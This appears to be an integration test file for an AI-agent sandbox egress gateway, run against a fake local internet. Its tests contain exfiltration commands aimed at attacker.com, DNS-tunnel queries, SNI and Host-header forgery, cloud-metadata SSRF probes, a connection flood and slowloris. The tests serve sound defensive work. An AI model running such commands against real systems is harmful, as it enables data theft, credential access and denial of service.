/**
 * Egress gateway against a fake internet built in network namespaces on this machine.
 * Clients (curl, dig, python3) run inside the sandbox's namespace, as an agent would:
 * allowed calls work with and without proxy variables; every exfiltration attempt fails
 * and is in the audit log as a denial. No traffic leaves the machine.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { spawn } from 'node:child_process';
import { readdir } from 'node:fs/promises';
import { GatewayError, startSandboxNetwork, type SandboxNetwork } from '../../src/gateway/index.js';
import { hostTableExists } from '../../src/gateway/netns/adapter.js';
import { runCommand } from '../../src/host/exec.js';
import { startFakeInternet, UPSTREAM_DNS, type FakeInternet } from './gateway-fake-internet.js';
import { inNetns, MemorySink, networkPolicy, requirementsOrSkip } from './gateway-support.js';

const ALLOW = ['api.openai.com', 'storage.googleapis.com', 'rebind.allowed.test', 'metadata.allowed.test'];
const config = { upstreamDns: { host: UPSTREAM_DNS, port: 53 }, sandboxSubnet: '10.201.0.0/16', stateDir: '/run/aegis-test' };
const BLOCKED_POLL_MS = 200;

describe('egress gateway: fake internet', { ...requirementsOrSkip(), timeout: 180_000 }, () => {
  let inet: FakeInternet;
  let net: SandboxNetwork;
  const audit = new MemorySink();
  let ns: string;
  let proxied: Record<string, string>;

  before(async () => {
    inet = await startFakeInternet();
    net = await startSandboxNetwork({
      network: networkPolicy(ALLOW, { perSecond: 50, burst: 100 }),
      executionId: 'exec-attacks',
      agent: 'attack-tests',
      audit,
      config,
      blockedPollMs: BLOCKED_POLL_MS,
    });
    ns = net.netnsName;
    proxied = { ...net.env };
  });
  after(async () => {
    await net?.close();
    await inet?.close();
  });

  /** Packets of `protocol` the `net.blocked` events of this sandbox have reported so far. */
  const blockedPackets = (protocol: string, execution = 'exec-attacks'): number =>
    audit
      .find('net.blocked', 'deny', { protocol, reason: 'gateway.no_route' })
      .filter((e) => e.actor.execution === execution)
      .reduce((n, e) => n + (e.payload.packets as number), 0);
  /** Whether a `net.blocked` event of this sandbox names `address` (and `port`, null for none) as a destination, waiting up to 3 s. */
  const blockedTo = async (address: string, port: number | null): Promise<boolean> => {
    const named = (): boolean =>
      audit
        .find('net.blocked', 'deny')
        .filter((e) => e.actor.execution === 'exec-attacks')
        .some((e) =>
          (e.payload.destinations as Array<{ address: string; port: number | null }>).some((d) => d.address === address && d.port === port),
        );
    const end = Date.now() + 3000;
    while (!named() && Date.now() < end) await new Promise((r) => setTimeout(r, 50));
    return named();
  };
  /** Wait (up to 3 s) until the drop counters report more `protocol` packets than `before`. */
  const blockedSince = async (protocol: string, before: number): Promise<number> => {
    const end = Date.now() + 3000;
    while (blockedPackets(protocol) <= before && Date.now() < end) await new Promise((r) => setTimeout(r, 50));
    return blockedPackets(protocol) - before;
  };

  const curl = (args: string[], env: Record<string, string> = {}) =>
    inNetns(ns, ['curl', '-sS', '--max-time', '8', '--cacert', inet.caFile, ...args], env);

  describe('allowed traffic', () => {
    it('reaches an allowed host over HTTPS through the proxy variables (CONNECT)', async () => {
      const r = await curl(['https://api.openai.com/v1/models'], proxied);
      assert.equal(r.code, 0, r.stderr);
      assert.deepEqual(JSON.parse(r.stdout), { host: 'api.openai.com', path: '/v1/models', method: 'GET', tls: true });
      const ev = await audit.eventually('net.connect', 'allow', { mode: 'connect', host: 'api.openai.com', port: 443 });
      assert.equal(ev.length, 1);
      assert.equal(ev[0]!.payload.sni, 'api.openai.com');
      assert.ok((ev[0]!.payload.bytesReceived as number) > 0);
    });

    it('reaches an allowed host over HTTPS without proxy variables (transparent capture, SNI)', async () => {
      const r = await curl(['https://api.openai.com/v1/chat']);
      assert.equal(r.code, 0, r.stderr);
      assert.equal(JSON.parse(r.stdout).path, '/v1/chat');
      assert.equal(audit.find('net.dns', 'allow', { name: 'api.openai.com', type: 'A' }).length >= 1, true);
      assert.equal((await audit.eventually('net.connect', 'allow', { mode: 'transparent-tls', host: 'api.openai.com' })).length, 1);
    });

    it('follows a CNAME chain and answers the question name only', async () => {
      const r = await inNetns(ns, ['dig', '+short', '+tries=1', '+time=3', 'storage.googleapis.com', 'A']);
      assert.equal(r.code, 0, r.stderr);
      assert.equal(r.stdout.trim(), '198.51.100.11');
      const c = await curl(['https://storage.googleapis.com/bucket/object']);
      assert.equal(c.code, 0, c.stderr);
    });

    it('forwards plain HTTP through the proxy and logs the request', async () => {
      const r = await curl(['http://api.openai.com/health?x=1'], proxied);
      assert.equal(r.code, 0, r.stderr);
      assert.equal(JSON.parse(r.stdout).tls, false);
      const ev = audit.find('http.request', 'allow', {
        mode: 'forward',
        method: 'GET',
        url: 'http://api.openai.com/health?x=1',
        status: 200,
      });
      assert.equal(ev.length, 1);
    });

    it('a Python agent reaches the allowed API with and without the proxy', async () => {
      const script = `
import json, ssl, sys, urllib.request
ctx = ssl.create_default_context(cafile=sys.argv[1])
for handler in (urllib.request.ProxyHandler(), urllib.request.ProxyHandler({})):
    opener = urllib.request.build_opener(handler, urllib.request.HTTPSHandler(context=ctx))
    print(json.load(opener.open("https://api.openai.com/v1/py", timeout=8))["host"])
`;
      const r = await inNetns(ns, ['python3', '-c', script, inet.caFile], proxied);
      assert.equal(r.code, 0, r.stderr);
      assert.deepEqual(r.stdout.trim().split('\n'), ['api.openai.com', 'api.openai.com']);
    });

    it("allowed traffic leaves no net.blocked event (no noise from the kernel's own packets)", async () => {
      await new Promise((r) => setTimeout(r, 3 * BLOCKED_POLL_MS));
      assert.deepEqual(audit.find('net.blocked', 'deny'), []);
    });
  });

  describe('exfiltration attempts: every one fails and is audited as a denial', () => {
    it('attacker.com over plain HTTP through the proxy: 403 with the reason code', async () => {
      const r = await curl(['-i', 'http://attacker.com/steal?d=secret'], proxied);
      assert.match(r.stdout, /^HTTP\/1\.1 403/);
      assert.match(r.stdout, /x-aegis-reason: net\.denied\.not_in_allowlist/i);
      assert.equal(
        audit.find('http.request', 'deny', { reason: 'net.denied.not_in_allowlist', url: 'http://attacker.com/steal?d=secret' }).length,
        1,
      );
    });

    it('attacker.com over HTTPS through CONNECT', async () => {
      const r = await curl(['https://attacker.com/'], proxied);
      assert.notEqual(r.code, 0);
      assert.match(r.stderr, /403/);
      assert.equal(
        audit.find('net.connect', 'deny', { mode: 'connect', host: 'attacker.com', reason: 'net.denied.not_in_allowlist' }).length,
        1,
      );
    });

    it('attacker.com through SOCKS5 (remote DNS and local DNS)', async () => {
      const r = await curl(['--socks5-hostname', `${net.gatewayAddress}:1080`, 'https://attacker.com/']);
      assert.notEqual(r.code, 0);
      assert.equal(
        audit.find('net.connect', 'deny', { mode: 'socks5', host: 'attacker.com', reason: 'net.denied.not_in_allowlist' }).length,
        1,
      );
      const byIp = await curl([
        '--socks5',
        `${net.gatewayAddress}:1080`,
        '--resolve',
        'attacker.com:443:198.51.100.66',
        'https://attacker.com/',
      ]);
      assert.notEqual(byIp.code, 0);
      assert.equal(audit.find('net.connect', 'deny', { mode: 'socks5', host: '198.51.100.66', reason: 'net.denied.ip_literal' }).length, 1);
    });

    it('attacker.com without proxy: the name does not resolve', async () => {
      const r = await curl(['https://attacker.com/']);
      assert.equal(r.code, 6, r.stderr); // CURLE_COULDNT_RESOLVE_HOST
      assert.ok(audit.find('net.dns', 'deny', { name: 'attacker.com', reason: 'net.denied.not_in_allowlist' }).length >= 1);
    });

    it('by IP address: transparent HTTPS (no SNI), transparent HTTP and CONNECT', async () => {
      const tls = await curl(['-k', 'https://198.51.100.66/']);
      assert.notEqual(tls.code, 0);
      assert.equal(audit.find('net.connect', 'deny', { mode: 'transparent-tls', reason: 'gateway.sni_missing' }).length, 1);
      const http = await curl(['-i', 'http://198.51.100.66/x']);
      assert.match(http.stdout, /^HTTP\/1\.1 403/);
      assert.equal(audit.find('http.request', 'deny', { mode: 'transparent-http', reason: 'net.denied.ip_literal' }).length, 1);
      const c = await curl(['-k', 'https://198.51.100.66/'], proxied);
      assert.notEqual(c.code, 0);
      assert.equal(
        audit.find('net.connect', 'deny', { mode: 'connect', host: '198.51.100.66', reason: 'net.denied.ip_literal' }).length,
        1,
      );
    });

    it('by IPv6: dropped and audited (net.blocked ipv6), and a CONNECT to an IPv6 literal is denied', async () => {
      const before = blockedPackets('ipv6');
      const direct = await curl(['-6', '-k', 'https://[2001:db8::66]/']);
      assert.notEqual(direct.code, 0);
      const py = await inNetns(ns, [
        'python3',
        '-c',
        'import socket; s=socket.socket(socket.AF_INET6); s.settimeout(3); s.connect(("2001:db8::66", 443))',
      ]);
      assert.notEqual(py.code, 0);
      const ping6 = await inNetns(ns, [
        'python3',
        '-c',
        'import socket; s=socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6); s.settimeout(2); s.sendto(b"\\x80\\x00\\x00\\x00\\x00\\x01\\x00\\x01", ("2001:db8::66", 0)); s.recv(100)',
      ]);
      assert.notEqual(ping6.code, 0);
      assert.ok((await blockedSince('ipv6', before)) >= 3, 'curl, the Python connect and the ping each left at least one dropped packet');
      assert.ok(await blockedTo('2001:db8::66', 443), 'the event names [2001:db8::66]:443');
      assert.ok(await blockedTo('2001:db8::66', null), 'and the ICMPv6 destination');
      const c = await curl(['-k', 'https://[2001:db8::66]/'], proxied);
      assert.notEqual(c.code, 0);
      assert.equal(audit.find('net.connect', 'deny', { mode: 'connect', host: '2001:db8::66', reason: 'net.denied.ip_literal' }).length, 1);
    });

    it('DNS TXT query and subdomain-encoded query to the denied domain get REFUSED', async () => {
      const txt = await inNetns(ns, ['dig', '+tries=1', '+time=3', 'TXT', 'attacker.com']);
      assert.match(txt.stdout, /status: REFUSED/);
      assert.doesNotMatch(txt.stdout, /exfil-channel-open/);
      const sub = await inNetns(ns, ['dig', '+tries=1', '+time=3', 'A', 'c2VjcmV0LXRva2Vu.attacker.com']);
      assert.match(sub.stdout, /status: REFUSED/);
      const txtAllowed = await inNetns(ns, ['dig', '+tries=1', '+time=3', 'TXT', 'api.openai.com']);
      assert.match(txtAllowed.stdout, /status: REFUSED/);
      assert.equal(audit.find('net.dns', 'deny', { name: 'attacker.com', type: 'TXT' }).length, 1);
      assert.equal(
        audit.find('net.dns', 'deny', { name: 'c2VjcmV0LXRva2Vu.attacker.com', reason: 'net.denied.not_in_allowlist' }).length,
        1,
      );
      assert.equal(audit.find('net.dns', 'deny', { name: 'api.openai.com', type: 'TXT', reason: 'gateway.dns_type_refused' }).length, 1);
    });

    it('a forged SNI: fronting through CONNECT, and a denied SNI on an allowed address', async () => {
      const script = `
import socket, ssl, sys
s = socket.create_connection((sys.argv[1], 3128), timeout=5)
s.sendall(b"CONNECT api.openai.com:443 HTTP/1.1\\r\\nHost: api.openai.com:443\\r\\n\\r\\n")
assert s.recv(1024).startswith(b"HTTP/1.1 200")
ctx = ssl.create_default_context(cafile=sys.argv[2])
try:
    ctx.wrap_socket(s, server_hostname="attacker.com").sendall(b"GET / HTTP/1.1\\r\\nHost: attacker.com\\r\\n\\r\\n")
    print("TUNNEL OPEN")
except (ssl.SSLError, OSError) as e:
    print("refused", type(e).__name__)
`;
      const r = await inNetns(ns, ['python3', '-c', script, net.gatewayAddress, inet.caFile]);
      assert.match(r.stdout, /^refused/, r.stdout + r.stderr);
      assert.equal(
        (
          await audit.eventually('net.connect', 'deny', {
            mode: 'connect',
            host: 'api.openai.com',
            sni: 'attacker.com',
            reason: 'gateway.sni_mismatch',
          })
        ).length,
        1,
      );
      const t = await curl(['--resolve', 'attacker.com:443:198.51.100.10', 'https://attacker.com/']);
      assert.notEqual(t.code, 0);
      assert.equal(
        audit.find('net.connect', 'deny', { mode: 'transparent-tls', sni: 'attacker.com', reason: 'net.denied.not_in_allowlist' }).length,
        1,
      );
    });

    it('a forged Host header, through the proxy and transparently', async () => {
      const p = await curl(['-i', '-H', 'Host: attacker.com', 'http://api.openai.com/'], proxied);
      assert.match(p.stdout, /^HTTP\/1\.1 403/);
      assert.equal(audit.find('http.request', 'deny', { mode: 'forward', reason: 'gateway.host_mismatch' }).length, 1);
      const t = await curl(['-i', '-H', 'Host: attacker.com', 'http://api.openai.com/']);
      assert.match(t.stdout, /^HTTP\/1\.1 403/);
      assert.equal(
        audit.find('http.request', 'deny', { mode: 'transparent-http', url: 'http://attacker.com/', reason: 'net.denied.not_in_allowlist' })
          .length,
        1,
      );
      assert.equal(
        inet.requestsSeen().some((q) => q.host === 'attacker.com'),
        false,
      );
    });

    it('UDP to an outside resolver is answered by the gateway (REFUSED); other UDP is dropped', async () => {
      const r = await inNetns(ns, ['dig', '+tries=1', '+time=3', `@${UPSTREAM_DNS}`, 'A', 'attacker.com']);
      assert.match(r.stdout, /status: REFUSED/);
      assert.ok(audit.find('net.dns', 'deny', { name: 'attacker.com', type: 'A', transport: 'udp' }).length >= 2);
      const before = blockedPackets('udp');
      const other = await inNetns(ns, ['dig', '+tries=1', '+time=2', `@${UPSTREAM_DNS}`, '-p', '5353', 'A', 'attacker.com']);
      assert.match(other.stdout + other.stderr, /timed out|no servers could be reached|permitted/);
      assert.ok((await blockedSince('udp', before)) >= 1, 'the UDP datagram to port 5353 is in the audit log');
      assert.ok(await blockedTo(UPSTREAM_DNS, 5353), `the event names ${UPSTREAM_DNS}:5353`);
    });

    it('the cloud metadata address: direct, through the proxy, and by DNS rebinding', async () => {
      const direct = await curl(['-i', 'http://169.254.169.254/latest/meta-data/']);
      assert.match(direct.stdout, /^HTTP\/1\.1 403/);
      const viaProxy = await curl(['-i', 'http://169.254.169.254/latest/meta-data/'], proxied);
      assert.match(viaProxy.stdout, /^HTTP\/1\.1 403/);
      assert.equal(
        audit.find('http.request', 'deny', { reason: 'net.denied.special_range', url: 'http://169.254.169.254/latest/meta-data/' }).length,
        2,
      );
      const rebind = await inNetns(ns, ['dig', '+tries=1', '+time=3', 'A', 'metadata.allowed.test']);
      assert.match(rebind.stdout, /status: REFUSED/);
      assert.equal(audit.find('net.dns', 'deny', { name: 'metadata.allowed.test', reason: 'net.denied.special_range' }).length, 1);
      const priv = await inNetns(ns, ['dig', '+tries=1', '+time=3', 'A', 'rebind.allowed.test']);
      assert.match(priv.stdout, /status: REFUSED/);
    });

    it('a decimal-encoded IP (2852039166 = 169.254.169.254)', async () => {
      const r = await curl(['-i', 'http://2852039166/latest/meta-data/'], proxied);
      assert.match(r.stdout, /^HTTP\/1\.1 403/);
      const t = await curl(['-i', 'http://2852039166/latest/meta-data/']);
      assert.match(t.stdout, /^HTTP\/1\.1 403/);
      const denied = audit
        .find('http.request', 'deny', { reason: 'net.denied.special_range' })
        .filter((e) => String(e.payload.url).includes('/latest/meta-data/'));
      assert.equal(denied.length, 4); // 2 from the dotted spelling above, 2 from the decimal one
    });

    it('direct connections to other ports and ICMP go nowhere, and are audited as net.blocked', async () => {
      const tcpBefore = blockedPackets('tcp');
      const icmpBefore = blockedPackets('icmp');
      const tcp = await inNetns(ns, ['python3', '-c', 'import socket; socket.create_connection(("198.51.100.66", 22), timeout=2)']);
      assert.notEqual(tcp.code, 0);
      const ping = await inNetns(ns, [
        'python3',
        '-c',
        'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(2); s.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("198.51.100.66", 0)); s.recv(100)',
      ]);
      assert.notEqual(ping.code, 0);
      assert.ok((await blockedSince('tcp', tcpBefore)) >= 1, 'the SYN to port 22');
      assert.ok((await blockedSince('icmp', icmpBefore)) >= 1, 'the echo request');
      assert.ok(await blockedTo('198.51.100.66', 22), 'the event names 198.51.100.66:22');
      assert.ok(await blockedTo('198.51.100.66', null), 'and the ICMP destination');
      const ev = audit.find('net.blocked', 'deny', { protocol: 'icmp' }).at(-1)!;
      assert.deepEqual(ev.actor, { agent: 'attack-tests', execution: 'exec-attacks' });
      assert.ok((ev.payload.bytes as number) >= 28, 'an IPv4 echo request is at least 28 bytes');
    });
  });

  describe('hostile bytes cost only their own connection', () => {
    it('garbage, oversized headers and bad SOCKS/TLS bytes: refused and audited; the gateway keeps serving', async () => {
      const script = `
import socket, sys
gw = sys.argv[1]
def talk(port, data, dport=None):
    s = socket.create_connection((dport or gw, port), timeout=5)
    try:
        s.sendall(data)
        return s.recv(200)
    except OSError as e:
        return repr(e).encode()
    finally:
        s.close()
print(talk(3128, b"\\x00\\xff garbage \\r\\n\\r\\n")[:12])
print(talk(3128, b"GET http://api.openai.com/ HTTP/1.1\\r\\nX: " + b"a" * 40000 + b"\\r\\n\\r\\n")[:12])
print(talk(1080, b"\\x04\\x01\\x00\\x50\\x01\\x02\\x03\\x04\\x00"))
print(talk(443, b"\\x16\\x03\\x01\\x00\\x05\\x02\\x00\\x00\\x01\\x00", "198.51.100.10"))
`;
      const r = await inNetns(ns, ['python3', '-c', script, net.gatewayAddress]);
      const lines = r.stdout.trim().split('\n');
      assert.equal(lines[0], "b'HTTP/1.1 400'");
      assert.equal(lines[1], "b'HTTP/1.1 431'");
      assert.equal(lines[2], "b''");
      assert.equal(lines[3], "b''");
      assert.ok(audit.find('net.connect', 'deny', { reason: 'gateway.malformed' }).length >= 4);
      const ok = await curl(['https://api.openai.com/after-garbage'], proxied);
      assert.equal(ok.code, 0, ok.stderr);
    });

    it('a connection flood: past the per-listener cap new connections are closed and audited; the gateway recovers', async () => {
      const script = `
import socket, sys, time
held = []
for i in range(140):
    held.append(socket.create_connection((sys.argv[1], 1080), timeout=5))
time.sleep(0.5)
closed = 0
for s in held:
    s.setblocking(False)
    try:
        if s.recv(1) == b"":
            closed += 1
    except BlockingIOError:
        pass
    except OSError:
        closed += 1
print(closed)
`;
      const r = await inNetns(ns, ['python3', '-c', script, net.gatewayAddress], {}, 20_000);
      assert.equal(r.stdout.trim(), '12', r.stderr);
      assert.equal(audit.find('net.connect', 'deny', { mode: 'socks5', reason: 'gateway.too_many_connections' }).length, 12);
      const ok = await curl(['--socks5-hostname', `${net.gatewayAddress}:1080`, 'https://api.openai.com/after-flood']);
      assert.equal(ok.code, 0, ok.stderr);
    });

    it('slowloris: a header block that never ends is cut after the header timeout', async () => {
      const script = `
import socket, sys, time
s = socket.create_connection((sys.argv[1], 3128), timeout=20)
s.sendall(b"GET http://api.openai.com/ HTTP/1.1\\r\\n")
t = time.time()
try:
    while time.time() - t < 18:
        s.sendall(b"X-a: b\\r\\n"); time.sleep(1)
    print("still open")
except OSError:
    print("cut after", int(time.time() - t))
`;
      const r = await inNetns(ns, ['python3', '-c', script, net.gatewayAddress], {}, 25_000);
      assert.match(r.stdout, /^cut after (9|1[0-3])$/m, r.stdout + r.stderr);
    });
  });

  describe('rate limit', () => {
    it('excess connections get 429 and are audited', async () => {
      const limited = await startSandboxNetwork({
        network: networkPolicy(ALLOW, { perSecond: 1, burst: 3 }),
        executionId: 'exec-rate',
        audit,
        config,
      });
      try {
        const codes: string[] = [];
        for (let i = 0; i < 6; i++) {
          const r = await inNetns(
            limited.netnsName,
            ['curl', '-s', '-o', '/dev/null', '-w', '%{http_code}', '--max-time', '5', 'http://api.openai.com/'],
            limited.env,
          );
          codes.push(r.stdout);
        }
        assert.deepEqual(codes.slice(0, 3), ['200', '200', '200']);
        assert.ok(codes.slice(3).includes('429'), codes.join(','));
        assert.ok(
          audit.events.some((e) => e.actor.execution === 'exec-rate' && e.decision === 'deny' && e.reason === 'gateway.rate_limited'),
        );
      } finally {
        await limited.close();
      }
    });
  });

  describe('byte quota', () => {
    it('a download past the quota is cut, later requests get 429, both audited', async () => {
      const q = await startSandboxNetwork({
        network: networkPolicy(ALLOW, { perSecond: 50, burst: 100 }, 1_000_000),
        executionId: 'exec-quota',
        audit,
        config,
      });
      try {
        const big = await inNetns(
          q.netnsName,
          [
            'curl',
            '-sS',
            '-o',
            '/dev/null',
            '-w',
            '%{size_download}',
            '--max-time',
            '8',
            '--cacert',
            inet.caFile,
            'https://api.openai.com/bytes/5000000',
          ],
          q.env,
        );
        assert.notEqual(big.code, 0);
        assert.ok(Number(big.stdout) < 2_000_000, big.stdout);
        const next = await inNetns(
          q.netnsName,
          ['curl', '-s', '-o', '/dev/null', '-w', '%{http_code}', '--max-time', '5', 'http://api.openai.com/'],
          q.env,
        );
        assert.equal(next.stdout, '429');
        const quota = audit.events.filter((e) => e.actor.execution === 'exec-quota' && e.reason === 'gateway.quota_exceeded');
        assert.deepEqual(new Set(quota.map((e) => e.action)), new Set(['net.connect', 'http.request']));
      } finally {
        await q.close();
      }
    });
  });

  describe('teardown', () => {
    it('close() reports the drops since the last reading before it removes the tables', async () => {
      const n = await startSandboxNetwork({
        network: networkPolicy([]),
        executionId: 'exec-final',
        audit,
        config,
        blockedPollMs: 3_600_000,
      });
      const tcp = await inNetns(n.netnsName, [
        'python3',
        '-c',
        'import socket; socket.create_connection(("198.51.100.66", 25), timeout=1)',
      ]);
      assert.notEqual(tcp.code, 0);
      assert.equal(blockedPackets('tcp', 'exec-final'), 0, 'not read yet: the poll interval is an hour');
      await n.close();
      assert.ok(blockedPackets('tcp', 'exec-final') >= 1);
    });

    it('a sandbox subnet that overlaps a host route is refused before anything is built (subnet_conflict)', async () => {
      // 198.51.100.0/24 is routed to the fake internet right now: a sandbox there would shadow it.
      await assert.rejects(
        startSandboxNetwork({
          network: networkPolicy([]),
          executionId: 'exec-conflict',
          audit,
          config: { ...config, sandboxSubnet: '198.51.100.0/24' },
        }),
        (e: unknown) =>
          e instanceof GatewayError && e.code === 'gateway.subnet_conflict' && /198\.51\.100\.0\/24 dev agtinet0h/.test(e.message),
      );
      const slots = await readdir(`${config.stateDir}/net-slots`);
      assert.deepEqual(slots.sort(), [String(net.plan.slot)], 'no slot was claimed for the refused sandbox');
    });

    it('close() removes the namespace, the veth and the host table', async () => {
      const n = await startSandboxNetwork({ network: networkPolicy([]), executionId: 'exec-teardown', audit, config });
      assert.equal(await hostTableExists(n.plan), true);
      await n.close();
      assert.equal(await hostTableExists(n.plan), false);
      const links = await inNetns(ns, ['true']);
      assert.equal(links.code, 0); // the other sandbox is untouched
      const gone = await inNetns(n.netnsName, ['true']);
      assert.notEqual(gone.code, 0);
    });

    it('close() while a process still holds the namespace: the host end of the veth is down, without address or route', async () => {
      // Teardown does not wait for `ip link del` (slow); the kernel deletes the pair when the
      // namespace dies. Until then the host end must carry nothing.
      const n = await startSandboxNetwork({ network: networkPolicy([]), executionId: 'exec-held', audit, config });
      // A process inside the namespace (it says so once it is there), as a runtime left behind.
      const holder = spawn('ip', ['netns', 'exec', n.netnsName, 'sh', '-c', 'echo in; exec sleep 60'], {
        stdio: ['ignore', 'pipe', 'ignore'],
      });
      try {
        await new Promise<void>((resolve, reject) => {
          holder.stdout.once('data', () => resolve());
          holder.once('error', reject);
          holder.once('exit', (code) => reject(new Error(`holder exited (${code})`)));
        });
        await n.close();
        const ipJson = async (args: string[]): Promise<Array<Record<string, unknown>>> => {
          const r = await runCommand(['/usr/sbin/ip', '-j', ...args], { timeoutMs: 10_000 });
          // `ip` fails once the kernel has deleted the interface: nothing is left to carry packets.
          return r.code === 0 ? (JSON.parse(r.stdout || '[]') as Array<Record<string, unknown>>) : [];
        };
        const links = await ipJson(['addr', 'show', 'dev', n.plan.hostIf]);
        for (const l of links) {
          assert.ok(!(l.flags as string[]).includes('UP'), `${n.plan.hostIf} is down`);
          assert.deepEqual(l.addr_info, [], `${n.plan.hostIf} has no address`);
        }
        assert.deepEqual(links.length === 0 ? [] : await ipJson(['route', 'show', 'table', 'all', 'dev', n.plan.hostIf]), []);
        assert.equal(await hostTableExists(n.plan), false);
      } finally {
        holder.kill('SIGKILL');
      }
    });
  });
});
